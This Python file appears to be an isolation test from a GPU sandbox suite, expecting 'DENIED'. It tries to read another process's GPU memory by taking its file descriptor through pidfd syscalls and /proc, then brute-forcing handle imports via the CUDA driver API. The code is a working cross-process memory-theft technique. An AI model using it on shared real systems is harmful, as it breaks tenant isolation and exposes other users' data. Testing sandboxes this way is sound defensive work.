# 68 ipc_overreach
# attempts: to take the descriptor by which another process on the GPU exports memory, and to find one among its own that leads to
#   that memory
# required: DENIED
# on: gpu
# beside: _68_victim.py
import ctypes
import os
import torch
from attack import attempt, custom_kernel, say, syscall
from gpu import check

PID, NUMBER, _ = "@BESIDE@".split(":")
PATTERN, MIB = 0x5eedface, 1 << 20
torch.zeros(1, device="cuda")


class Access(ctypes.Structure):
    """CUmemAccessDesc: device 0 may read and write."""
    _fields_ = [("type", ctypes.c_int), ("device", ctypes.c_int), ("flags", ctypes.c_int)]


def first_word(memory, size):
    place, word, whole = ctypes.c_uint64(), ctypes.c_uint32(), ctypes.c_size_t(size)
    check("cuMemAddressReserve", ctypes.byref(place), whole, ctypes.c_size_t(0), ctypes.c_uint64(0), ctypes.c_uint64(0))
    check("cuMemMap", place, whole, ctypes.c_size_t(0), memory, ctypes.c_uint64(0))
    check("cuMemSetAccess", place, whole, ctypes.byref(Access(1, 0, 3)), ctypes.c_size_t(1))
    check("cuMemcpyDtoH_v2", ctypes.byref(word), place, ctypes.c_size_t(4))
    return word.value


def words(memory):
    """{MiB: its first word}, for each size by which it can be mapped."""
    found = {}
    for mib in (2, 4, 8, 16, 32, 64, 128, 256):
        try:
            found[mib] = hex(first_word(memory, mib * MIB))
        except OSError as reason:
            found[mib] = reason.errno
    return found


def import_descriptor(descriptor):
    """What of the other one's can be read there. A descriptor of the driver's own may lead to memory of this process."""
    memory = ctypes.c_uint64()
    check("cuMemImportFromShareableHandle", ctypes.byref(memory), ctypes.c_void_p(descriptor), 1)
    found = words(memory)
    say(f"descriptor {descriptor}, {os.readlink(f'/proc/self/fd/{descriptor}')}: {found}")
    return found if hex(PATTERN) in found.values() else None


def take_descriptor():
    return import_descriptor(syscall(438, syscall(434, int(PID), 0), int(NUMBER), 0))


attempt("take the descriptor", take_descriptor)
attempt("open the descriptor in /proc", lambda: import_descriptor(open(f"/proc/{PID}/fd/{NUMBER}").fileno()))
for number in range(3, 256):
    attempt(f"import descriptor {number}", import_descriptor, number)
